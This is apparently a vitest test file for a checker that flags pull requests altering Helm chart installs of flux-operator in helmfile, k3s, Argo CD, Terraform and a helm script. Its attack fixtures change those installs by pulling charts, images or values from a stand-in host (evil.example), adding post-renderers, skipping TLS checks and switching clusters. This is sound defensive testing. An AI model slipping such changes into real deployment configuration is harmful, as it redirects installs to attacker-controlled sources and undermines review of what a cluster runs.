import { describe, expect, it } from 'vitest'
import { home, judged } from '../support/judged.js'
import { add, all, edit, remove, replace, textOf, type Change } from './changes.js'

// attack: A pull request leaves the version of an entry of helmfile, k3s, Argo CD, Terraform or a call of helm, and has it install something else: post-renderers, patches, templates, jobs, another cluster, connections that nobody checks.
// stops: The fields of an entry that decide what is installed, from where and where to, are compared with the base, in what it inherits and in what is said for all entries too.

const charts = 'oci://ghcr.io/controlplaneio-fluxcd/charts'
const helmfileOf = (top = '', more = ''): string =>
  `${top}releases:\n  - name: flux-operator\n    namespace: flux-system\n    chart: ${charts}/flux-operator\n    version: 0.37.1\n${more}`
const helmfile = add('helmfile.yaml', helmfileOf())
const releaseWith = (more: string, top = ''): Change => add('helmfile.yaml', helmfileOf(top, `    ${more}\n`))
const beside = '  - name: cilium\n    namespace: kube-system\n    chart: oci://quay.io/cilium\n    version: 1.0.0\n'
const repository = '  - name: cp\n    url: ghcr.io/controlplaneio-fluxcd/charts\n    oci: true\n'
const named = add(
  'helmfile.yaml',
  `repositories:\n${repository}releases:\n  - name: flux-operator\n    namespace: flux-system\n    chart: cp/flux-operator\n    version: 0.37.1\n`,
)
const k3sOf = (more = ''): string =>
  `apiVersion: helm.cattle.io/v1\nkind: HelmChart\nmetadata:\n  name: flux-operator\n  namespace: kube-system\nspec:\n  chart: ${charts}/flux-operator\n  version: 0.37.1\n  targetNamespace: flux-system\n${more}`
const k3s = add('k3s.yaml', k3sOf())
const k3sWith = (more: string): Change => add('k3s.yaml', k3sOf(`  ${more}\n`))
const config = (name: string): string =>
  `apiVersion: helm.cattle.io/v1\nkind: HelmChartConfig\nmetadata: {name: ${name}, namespace: kube-system}\nspec:\n  valuesContent: |\n    image: {repository: evil.example/x}\n`
const argoOf = (more = ''): string =>
  `apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: op\n  namespace: argocd\nspec:\n  destination: {server: here, namespace: flux-system}\n  syncPolicy: {automated: {}}\n  source:\n    repoURL: ghcr.io/controlplaneio-fluxcd/charts\n    chart: flux-operator\n    targetRevision: 0.37.1\n${more}`
const argo = add('argo.yaml', argoOf())
const argoWith = (more: string): Change => add('argo.yaml', argoOf(`    ${more}\n`))
const terraformOf = (more = ''): string =>
  `resource "helm_release" "op" {\n  name       = "flux-operator"\n  repository = "${charts}"\n  chart      = "flux-operator"\n  version    = "0.37.1"\n${more}}\n`
const terraform = add('tf/main.tf', terraformOf())
const terraformWith = (more: string): Change => add('tf/main.tf', terraformOf(`  ${more}\n`))
const other = (more: string): string => `resource "helm_release" "b" {\n  name = "flux-operator"\n  ${more}\n}\n`
const replaced = (base: Change, from: string, to: string): Change => all(base, replace('argo.yaml', from, to))
const script = add(
  'install.sh',
  `#!/bin/sh\nFLUX_OPERATOR_VERSION=0.37.1\nhelm upgrade --install flux-operator ${charts}/flux-operator \\\n  --version "$FLUX_OPERATOR_VERSION"\n`,
)
const called = (more: string): Change =>
  replace('install.sh', '"$FLUX_OPERATOR_VERSION"', `"$FLUX_OPERATOR_VERSION" ${more}`)
const image = 'image: {repository: evil.example/x}'

const attacks: readonly (readonly [name: string, base: Change, change: Change])[] = [
  ...[
    'postRenderer: ./x.sh',
    'strategicMergePatches: [{kind: Deployment, spec: {replicas: 0}}]',
    'jsonPatches: [{target: {kind: Deployment}, patch: [{op: remove, path: /spec}]}]',
    'transformers: [{kind: ImageTagTransformer}]',
    'kubeContext: other',
    'dependencies: [{chart: "oci://evil.example/x", version: 1.0.0}]',
    'insecureSkipTLSVerify: true',
    'plainHttp: true',
    'needs: [other/nothing]',
    `valuesTemplate: [{${image}}]`,
  ].map((field): (typeof attacks)[number] => [`a release with ${field}`, helmfile, releaseWith(field)]),
  ['a context for all', helmfile, add('helmfile.yaml', helmfileOf('helmDefaults: {kubeContext: other}\n'))],
  ['an argument for all', helmfile, add('helmfile.yaml', helmfileOf('helmDefaults: {args: [--post-renderer=./x]}\n'))],
  [
    'a template that switches off',
    helmfile,
    releaseWith('inherit: [{template: t}]', 'templates: {t: {installed: false}}\n'),
  ],
  ['another namespace', helmfile, replace('helmfile.yaml', 'flux-system', 'other')],
  [
    'a release of the name in another document',
    helmfile,
    add('helmfile.yaml', `${helmfileOf()}---\nreleases: [{name: flux-operator, chart: "oci://evil.example/x"}]\n`),
  ],
  [
    'two addresses of a repository',
    named,
    replace('helmfile.yaml', 'releases:', '  - {name: cp, url: evil.example/x, oci: true}\nreleases:'),
  ],
  [
    'a repository without a check',
    named,
    replace('helmfile.yaml', '    oci: true', '    oci: true\n    skipTLSVerify: true'),
  ],
  ...['jobImage: evil.example/x', 'chartContent: H4sIAAAA', `valuesContent: '${image}'`, 'plainHTTP: true'].map(
    (field): (typeof attacks)[number] => [`a chart of k3s with ${field}`, k3s, k3sWith(field)],
  ),
  ['values over those of a chart of k3s', k3s, add('config.yaml', config('flux-operator'))],
  [
    'a chart that k3s leaves',
    k3s,
    replace('k3s.yaml', 'metadata:\n', 'metadata:\n  annotations: {helmcharts.helm.cattle.io/unmanaged: "true"}\n'),
  ],
  ...[`helm: {values: '${image}'}`, 'plugin: {name: x}', 'kustomize: {images: [x=evil.example/x]}'].map(
    (field): (typeof attacks)[number] => [`an application with ${field}`, argo, argoWith(field)],
  ),
  [
    'an application that Argo CD leaves',
    argo,
    replace('argo.yaml', 'metadata:\n', 'metadata:\n  annotations: {argocd.argoproj.io/skip-reconcile: "true"}\n'),
  ],
  ...[
    'provider = helm.other',
    'postrender {\n    binary_path = "./x.sh"\n  }',
    'values = [yamlencode({ image = { repository = "evil.example/x" } })]',
    'values = [<<EOT\nimage:\n  repository: evil.example/x\nEOT\n  ]',
  ].map((field): (typeof attacks)[number] => [`a release of Terraform with ${field}`, terraform, terraformWith(field)]),
  [
    'a second release of Terraform with its name',
    terraform,
    edit('tf/main.tf', (text) => `${text}${other('chart = "x"')}`),
  ],
  [
    'a second release of Terraform with its name in another file and namespace',
    terraform,
    add('tf/other.tf', other('namespace = "other"\n  chart = "flux-extra"')),
  ],
  ...[
    'removed {\n  from = helm_release.op\n  lifecycle {\n    destroy = false\n  }\n}\n',
    'moved {\n  from = helm_release.op\n  to   = helm_release.other\n}\n',
  ].map((block): (typeof attacks)[number] => [
    `a release of Terraform beside ${block.slice(0, 7)}`,
    terraform,
    edit('tf/main.tf', (text) => text + block),
  ]),
  ...['enabled = false', 'precondition {\n      condition     = false\n      error_message = "no"\n    }'].map(
    (line): (typeof attacks)[number] => [
      `a release of Terraform with ${line.slice(0, 12)}`,
      terraform,
      terraformWith(`lifecycle {\n    ${line}\n  }`),
    ],
  ),
  ['an address for a chart of k3s', k3s, k3sWith('repo: https://evil.example/charts')],
  [
    'another address for a chart of k3s',
    k3sWith('repo: https://a.example/charts'),
    k3sWith('repo: https://evil.example/charts'),
  ],
  ['a release name of an application', argo, argoWith('helm: {releaseName: other}')],
  ['another name of an application', argo, replace('argo.yaml', 'name: op', 'name: other')],
  ['another project of an application', argo, replace('argo.yaml', 'spec:\n', 'spec:\n  project: nobody\n')],
  [
    'a project of an application that was another',
    replaced(argo, 'spec:\n', 'spec:\n  project: ours\n'),
    replace('argo.yaml', 'ours', 'nobody'),
  ],
  [
    'a folder in place of the chart',
    terraform,
    replace('tf/main.tf', '"flux-operator"\n  version', '"./flux-operator"\n  version'),
  ],
  [
    'an address in place of the chart',
    terraform,
    replace('tf/main.tf', '"flux-operator"\n  version', '"oci://evil.example/x"\n  version'),
  ],
  ...[
    '--post-renderer ./x',
    '--kube-context other',
    '--dry-run',
    '--plain-http',
    '-f https://evil.example/v.yaml',
    '--version 0.30.0',
  ].map((option): (typeof attacks)[number] => [`a call with ${option}`, script, called(option)]),
]

const harmless: readonly (readonly [name: string, base: Change, change: Change])[] = [
  ...[
    'values: [{logLevel: debug}]',
    'labels: {a: b}',
    'timeout: 600',
    'needs: [kube-system/cilium]',
    'hooks: [{events: [presync], command: kubectl}]',
  ].map((field): (typeof harmless)[number] => [
    `a release with ${field}`,
    helmfile,
    add('helmfile.yaml', helmfileOf('', `    ${field}\n${beside}`)),
  ]),
  [
    'a context of another release',
    helmfile,
    add('helmfile.yaml', `${helmfileOf()}${beside}    kubeContext: other\n    postRenderer: ./x.sh\n`),
  ],
  ['defaults for all', helmfile, add('helmfile.yaml', helmfileOf('helmDefaults: {wait: true, args: [--debug]}\n'))],
  ['a template that waits', helmfile, releaseWith('inherit: [{template: t}]', 'templates: {t: {wait: true}}\n')],
  [
    'a namespace that was not written',
    add('helmfile.yaml', helmfileOf().replace('    namespace: flux-system\n', '')),
    releaseWith('createNamespace: true'),
  ],
  [
    'another repository',
    named,
    replace('helmfile.yaml', 'releases:', '  - {name: other, url: quay.io/x, oci: true}\nreleases:'),
  ],
  ['values of a chart of k3s', k3s, k3sWith("valuesContent: 'logLevel: debug'")],
  ['values over those of another chart', k3s, add('config.yaml', config('traefik'))],
  ['values of an application', argo, argoWith('helm: {values: "logLevel: debug"}')],
  [
    'an application that mends itself',
    argo,
    replace('argo.yaml', '{automated: {}}', '{automated: {prune: true, selfHeal: true}}'),
  ],
  ...['timeout = 600', 'values = [yamlencode({ logLevel = "debug" })]'].map((field): (typeof harmless)[number] => [
    `a release of Terraform with ${field}`,
    terraform,
    terraformWith(field),
  ]),
  [
    'an application of the project that is meant anyhow',
    argo,
    replace('argo.yaml', 'spec:\n', 'spec:\n  project: default\n'),
  ],
  ['an application with the release name that it has', argo, argoWith('helm: {releaseName: op}')],
  [
    'a release of Terraform that is called otherwise in the state',
    terraform,
    edit(
      'tf/main.tf',
      (text) => `${text.replace('"op"', '"new"')}moved {\n  from = helm_release.op\n  to   = helm_release.new\n}\n`,
    ),
  ],
  [
    'a release of Terraform of another name',
    terraform,
    edit('tf/main.tf', (text) => `${text}${other('chart = "x"').replace('flux-operator', 'x')}`),
  ],
  ['a call that waits', script, called('--wait --create-namespace')],
  [
    'a call of another chart',
    script,
    edit('install.sh', (text) => `${text}helm install cilium oci://quay.io/cilium --kube-context x\n`),
  ],
  [
    'a script of another name',
    script,
    (tree) => all(remove('install.sh'), add('bootstrap.sh', textOf(tree, 'install.sh')))(tree),
  ],
]

describe('an entry of a chart', () => {
  it.each(attacks)('%s', async (_name, base, change) => {
    const before = base(home())
    const { conclusion, introduced } = await judged(before, change(before))
    expect(conclusion).toBe('failure')
    expect(introduced.join('\n')).toMatch(/error (?:pin-lost|source-changed) /)
  })

  it.each(harmless)('lets pass: %s', async (_name, base, change) => {
    const before = base(home())
    const { introduced } = await judged(before, change(before))
    expect(introduced.filter((one) => one.startsWith('error'))).toEqual([])
  })
})
